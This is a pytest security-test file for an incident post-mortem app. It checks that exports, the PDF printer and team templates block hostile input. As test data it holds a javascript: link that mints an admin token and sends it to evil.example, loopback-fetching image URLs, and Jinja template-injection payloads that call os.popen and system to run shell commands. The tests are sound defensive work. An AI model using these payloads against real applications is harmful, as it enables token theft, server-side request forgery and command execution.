"""Attacks on exports, the PDF printer and team templates, against a live server (issue #14 rows 1, 2, 7 and the PDF
half of 11): a `javascript:` link that would mint an admin's token, a pixel that makes the printer fetch a loopback
address, a team template that runs a shell command, and a crowd of PDF exports.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest

from afteraction.documents.pdf import find_browser
from tests.security.conftest import WEBHOOK_SECRET, LiveServer, start_live_server

# One print at a time, and a short queue, so a crowd of exports shows the cap and the 429 quickly.
LIVE_ENV = {"PDF_MAX_CONCURRENT": "1", "PDF_QUEUE_SECONDS": "0.3", "PDF_TIMEOUT": "30"}
CHROMIUM = find_browser()
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (/usr/bin/chromium)")
STEAL = "javascript:fetch('/api/v1/tokens',{method:'POST',body:'{\"name\":\"x\"}'}).then(r=>r.text()).then(t=>fetch('//evil.example/?'+t))"  # noqa: E501
T0 = "2026-03-14T10:00:00Z"


# --- helpers ----------------------------------------------------------------------------------------------------


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.targets: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.targets.extend(value or "" for name, value in attrs if name in ("href", "src", "action", "formaction"))


def link_targets(html: str) -> list[str]:
    """Every href, src and action of a page."""
    parser = _Links()
    parser.feed(html)
    return parser.targets


def policy(header: str) -> dict[str, str]:
    """A Content-Security-Policy as {directive: sources}."""
    parts = (part.strip().split(None, 1) for part in header.split(";") if part.strip())
    return {words[0].lower(): (words[1] if len(words) > 1 else "") for words in parts}


def cli(live: LiveServer, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The real `afteraction` command on the live server's database."""
    environment = {**os.environ, "AFTERACTION_DATABASE_URL": live.database_url, **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "afteraction", *args], capture_output=True, text=True, env=environment, timeout=120
    )


def import_document(live: LiveServer, folder: Path, text: str) -> str:
    """An editor imports a Markdown post-mortem with the real CLI; returns its incident id."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "postmortem.md"
    path.write_text(text, encoding="utf-8")
    result = cli(live, "import", str(path), "--json", env={"AFTERACTION_USER": "editor"})
    assert result.returncode == 0, result.stderr
    incident: str = json.loads(result.stdout)[0]["id"]
    return incident


def hostile_document(port: int) -> str:
    """A post-mortem whose text, events, links and evidence try to run script or fetch the counting server."""
    pixel = f"![p](http://127.0.0.1:{port}/pixel.png)"
    return f"""---
title: Checkout down {port}
kind: incident
severity: SEV2
status: draft
---

# Checkout down {port}

## Summary

Read [the runbook](javascript:alert(1)) and {pixel} <img src="http://127.0.0.1:{port}/raw.png">

## Timeline

| Time | Event | Link | Evidence |
| --- | --- | --- | --- |
| {T0} | Deploy {pixel} | javascript:alert(document.cookie) | javascript:fetch('//evil.example') |
| 2026-03-14T10:05:00Z | Alert fired | http://127.0.0.1:{port}/event-link | JaVaScRiPt:alert(2) |

## Notes

[x](javascript:alert(3)) ![q](http://127.0.0.1:{port}/section.png)
"""


def open_in_a_browser(path: Path, folder: Path) -> None:
    """Open a saved file in a headless Chromium with its network open, as someone double-clicking it would."""
    assert CHROMIUM is not None
    folder.mkdir(parents=True, exist_ok=True)
    root = ["--no-sandbox"] if os.geteuid() == 0 else []
    subprocess.run(
        [CHROMIUM, "--headless", *root, "--disable-gpu", f"--user-data-dir={folder / 'profile'}",
         f"--print-to-pdf={folder / 'out.pdf'}", path.as_uri()],
        capture_output=True, timeout=120, check=False,
    )  # fmt: skip
    assert (folder / "out.pdf").exists(), "the browser did not open the file"


def _processes() -> Iterator[tuple[int, str, str, int, int]]:
    """Every process as (pid, name, state, parent pid, session id)."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        name, rest = stat[stat.index("(") + 1 : stat.rindex(")")], stat[stat.rindex(")") + 2 :].split()
        yield int(entry.name), name, rest[0], int(rest[1]), int(rest[3])


def chromium_children(server_pid: int) -> list[int]:
    """The Chromium processes the server started: one per print (its helpers are Chromium's own children)."""
    return [
        pid for pid, name, state, parent, _ in _processes()
        if parent == server_pid and state != "Z" and "chrom" in name.lower()
    ]  # fmt: skip


def in_sessions(sessions: set[int]) -> list[int]:
    """The live processes of these sessions (each print is started as a session of its own)."""
    return [pid for pid, _, state, _, session in _processes() if session in sessions and state != "Z"]


@pytest.fixture(scope="module")
def tokens(live: LiveServer) -> dict[str, str]:
    """An admin, an editor and a viewer of the module's server, with API tokens."""
    return {role: live.add_user(f"exp-{role}", role=role) for role in ("admin", "editor", "viewer")}


# --- row 1: an editor's javascript: link is run by an admin who opens the export -----------------------------------


def test_row1_an_html_export_runs_no_script_and_is_a_download(live: LiveServer, tokens: dict[str, str], tmp_path):
    incident = import_document(live, tmp_path, hostile_document(9))
    with live.client(tokens["editor"]) as editor:
        added = editor.post(f"/api/v1/incidents/{incident}/timeline", json={"at": T0, "text": "Paged", "link": STEAL})
        assert added.status_code == 422 and added.json()["field"] == "link", added.text  # never stored
        section = editor.put(
            f"/api/v1/incidents/{incident}/postmortem/sections/impact",
            json={"text": "[Open the dashboard](javascript:alert(1)) <a href='javascript:alert(2)'>raw</a>"},
        )
        assert section.status_code == 200, section.text
    with live.client(tokens["admin"]) as admin:
        answer = admin.get(f"/api/v1/incidents/{incident}/export", params={"format": "html"})
        others = {
            fmt: admin.get(f"/api/v1/incidents/{incident}/export", params={"format": fmt}) for fmt in ("md", "json")
        }
    assert answer.status_code == 200, answer.text
    html = answer.text
    targets = link_targets(html)
    assert targets and all(urlsplit(t.strip()).scheme in ("http", "https", "mailto", "") for t in targets), targets
    assert not [t for t in targets if "javascript" in t.lower()]
    assert "javascript:fetch" not in html
    # Served as a download that runs nothing: attachment, a policy without script, nosniff, never cached.
    assert answer.headers["content-disposition"].startswith("attachment;")
    csp = policy(answer.headers["content-security-policy"])
    assert csp["default-src"] == "'none'" and "script-src" not in csp and csp["frame-ancestors"] == "'none'"
    assert csp["img-src"] == "data:" and csp["base-uri"] == "'none'" and csp["form-action"] == "'none'"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "no-store" in answer.headers["cache-control"]
    # The saved file keeps the same policy when opened later.
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';' in html.split("<html")[0]
    for fmt, other in others.items():
        assert other.status_code == 200, (fmt, other.text)
        assert other.headers["content-disposition"].startswith("attachment;"), fmt
        assert other.headers["x-content-type-options"] == "nosniff" and "no-store" in other.headers["cache-control"]


def test_row1_webhook_links_that_would_run_script_are_not_stored(live: LiveServer, tokens: dict[str, str]):
    with live.client(tokens["editor"]) as editor:
        created = editor.post("/api/v1/incidents", json={"title": "Webhook links", "severity": "SEV2"})
        assert created.status_code == 201, created.text
        incident = created.json()["id"]
    alert = {
        "status": "firing", "labels": {"alertname": "HighLatency", "incident": incident},
        "annotations": {"summary": "p99 above 2s"}, "startsAt": T0, "endsAt": "0001-01-01T00:00:00Z",
        "fingerprint": "js-1", "generatorURL": STEAL,
    }  # fmt: skip
    alertmanager = {"version": "4", "groupKey": "g-js", "status": "firing", "receiver": "afteraction",
                    "commonLabels": {"incident": incident}, "alerts": [alert]}  # fmt: skip
    grafana = {**alertmanager, "orgId": 1, "groupKey": "g-js-2",
               "alerts": [{**alert, "fingerprint": "js-2", "panelURL": "javascript:alert(1)",
                           "dashboardURL": " JAVASCRIPT:alert(2)", "generatorURL": "javascript:alert(3)"}]}  # fmt: skip
    with live.client() as sender:
        for receiver, payload in (("alertmanager", alertmanager), ("grafana", grafana)):
            answer = sender.post(
                f"/api/v1/webhooks/{receiver}", json=payload, headers={"X-Afteraction-Token": WEBHOOK_SECRET}
            )
            assert answer.status_code == 200 and answer.json()["added"] == 1, answer.text
    with live.client(tokens["viewer"]) as viewer:
        events = viewer.get(f"/api/v1/incidents/{incident}/timeline").json()["items"]
    assert [e["source"] for e in events] == ["alertmanager", "grafana"]
    assert [e["link"] for e in events] == [None, None]


# --- row 2: the printer fetches a loopback address for any viewer ----------------------------------------------------


@needs_chromium
def test_row2_pdf_and_html_exports_fetch_nothing(live: LiveServer, tokens: dict[str, str], counter, tmp_path):
    port, hits = counter
    incident = import_document(live, tmp_path / "doc", hostile_document(port))
    with live.client(tokens["editor"]) as editor:
        event = {"at": "2026-03-14T10:10:00Z", "text": f"Graph ![g](http://127.0.0.1:{port}/graph.png)",
                 "link": f"http://127.0.0.1:{port}/link"}  # fmt: skip
        assert editor.post(f"/api/v1/incidents/{incident}/timeline", json=event).status_code == 201
    viewer = live.sign_in("exp-viewer")
    printed = viewer.get(f"/incidents/{incident}/export/pdf")
    assert printed.status_code == 200, printed.text[:500]
    assert printed.content.startswith(b"%PDF-")
    assert printed.headers["content-disposition"].startswith("attachment;")
    time.sleep(0.3)
    assert hits == [], f"the server's PDF printer made requests: {hits}"
    with live.client(tokens["viewer"]) as api:
        html = api.get(f"/api/v1/incidents/{incident}/export", params={"format": "html"})
    assert html.status_code == 200
    saved = tmp_path / "export.html"
    saved.write_bytes(html.content)
    open_in_a_browser(saved, tmp_path / "opened")
    time.sleep(0.3)
    assert hits == [], f"the export made requests: {hits}"
    # The counter does see a browser that fetches: the same browser on a page without the export's policy.
    control = tmp_path / "control.html"
    control.write_text(f'<img src="http://127.0.0.1:{port}/control.png">')
    open_in_a_browser(control, tmp_path / "control")
    assert hits == ["/control.png"]


@needs_chromium
def test_row2_and_row7_a_team_template_loads_nothing_and_runs_nothing(backend: str, counter, tmp_path):
    port, hits = counter
    templates = tmp_path / "templates"
    templates.mkdir()
    marker = tmp_path / "template-ran"
    (templates / "postmortem.html.j2").write_text(
        f'<!DOCTYPE html><html><head><link rel="stylesheet" href="http://127.0.0.1:{port}/team.css">'
        f'<script src="http://127.0.0.1:{port}/team.js"></script></head><body>'
        f'<img src="http://127.0.0.1:{port}/team.png"><iframe src="http://127.0.0.1:{port}/team-frame"></iframe>'
        "<h1>{{ doc.title }}</h1>{{ doc.summary | md }}\n"
        '{% for e in doc.timeline %}<p>{{ e.text | md_inline }} <a href="{{ e.link }}">link</a> '
        '<a href="{{ e.evidence }}">evidence</a></p>{% endfor %}</body></html>\n',
        encoding="utf-8",
    )
    (templates / "postmortem.md.j2").write_text(
        f"# {{{{ doc.title }}}}\n{{{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}}}\n"
        f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}\n",
        encoding="utf-8",
    )
    env = {**LIVE_ENV, "TEMPLATE_DIR": str(templates)}
    with start_live_server(backend, tmp_path / "server", env) as server:
        token = server.add_user("team-viewer", role="viewer")
        server.add_user("editor", role="editor")
        incident = import_document(server, tmp_path / "doc", hostile_document(port))
        printed = server.sign_in("team-viewer").get(f"/incidents/{incident}/export/pdf")
        assert printed.status_code == 200 and printed.content.startswith(b"%PDF-"), printed.text[:500]
        time.sleep(0.3)
        assert hits == [], f"the server's PDF printer made requests: {hits}"
        with server.client(token) as api:
            html = api.get(f"/api/v1/incidents/{incident}/export", params={"format": "html"})
            markdown = api.get(f"/api/v1/incidents/{incident}/export", params={"format": "md"})
        assert html.status_code == 200
        saved = tmp_path / "team.html"
        saved.write_bytes(html.content)
        open_in_a_browser(saved, tmp_path / "opened")
        time.sleep(0.3)
        assert hits == [], f"the team template's exports made requests: {hits}"
        # Its careless `href="{{ e.link }}"` gets only http(s) and mailto links.
        assert not [t for t in link_targets(html.text) if "javascript" in t.lower()]
        # Row 7 on the server: the template that would run a command is a one-line problem without a path.
        assert markdown.status_code == 422, markdown.text
        detail = markdown.json()["detail"]
        assert detail.startswith("template postmortem.md.j2:2: ") and str(templates) not in markdown.text
        assert not marker.exists()
        assert server.alive()


# --- row 7: `afteraction export --template DIR` runs a shell command ----------------------------------------------


@pytest.mark.parametrize(
    "attack",
    [
        "lipsum.__globals__['os'].popen('touch MARKER').read()",
        "''.__class__.__mro__[1].__subclasses__()",
        "doc.model_copy.__globals__['__builtins__']['__import__']('os').system('touch MARKER')",
    ],
)
def test_row7_a_team_template_cannot_run_a_command(live: LiveServer, tokens: dict[str, str], tmp_path, attack):
    with live.client(tokens["editor"]) as editor:
        incident = editor.post("/api/v1/incidents", json={"title": "Templates", "severity": "SEV3"}).json()["id"]
    marker = tmp_path / "ran"
    folder = tmp_path / "team"
    folder.mkdir()
    (folder / "postmortem.md.j2").write_text(
        "# {{ doc.title }}\n{{ " + attack.replace("MARKER", str(marker)) + " }}\n", encoding="utf-8"
    )
    result = cli(live, "export", incident, "--template", str(folder))
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: template postmortem.md.j2:2: "), result.stderr
    assert not marker.exists()


# --- row 11 (PDF): four exports at once by a viewer ---------------------------------------------------------------


@needs_chromium
def test_row11_concurrent_pdf_exports_are_capped_and_the_rest_get_429(live: LiveServer, tokens: dict[str, str]):
    with live.client(tokens["editor"]) as editor:
        incident = editor.post("/api/v1/incidents", json={"title": "Crowd", "severity": "SEV3"}).json()["id"]
    viewer = live.sign_in("exp-viewer")
    cap = int(LIVE_ENV["PDF_MAX_CONCURRENT"])
    at_once: list[int] = []
    prints: set[int] = set()
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            running = chromium_children(live.process.pid)
            at_once.append(len(running))
            prints.update(running)
            time.sleep(0.005)

    def export(_: int) -> httpx.Response:
        with httpx.Client(base_url=live.base_url, cookies=viewer.cookies, timeout=120) as client:
            return client.get(f"/incidents/{incident}/export/pdf")

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        with ThreadPoolExecutor(6) as pool:
            answers = list(pool.map(export, range(6)))
    finally:
        done.set()
        sampler.join()
    statuses = sorted(answer.status_code for answer in answers)
    assert set(statuses) <= {200, 429}, statuses
    assert statuses.count(200) >= 1 and statuses.count(429) >= 1, statuses
    for answer in answers:
        if answer.status_code == 200:
            assert answer.content.startswith(b"%PDF-")
        else:
            assert int(answer.headers["retry-after"]) >= 1
            assert "AFTERACTION_PDF_MAX_CONCURRENT" in answer.text
    assert max(at_once) == cap, f"Chromium prints at once: at most {max(at_once)}, cap {cap}"
    assert len(prints) == statuses.count(200)  # one Chromium per print, none for a refused export
    # Nothing a print started outlives it: no process is left in any print's session.
    time.sleep(0.5)
    assert in_sessions(prints) == []
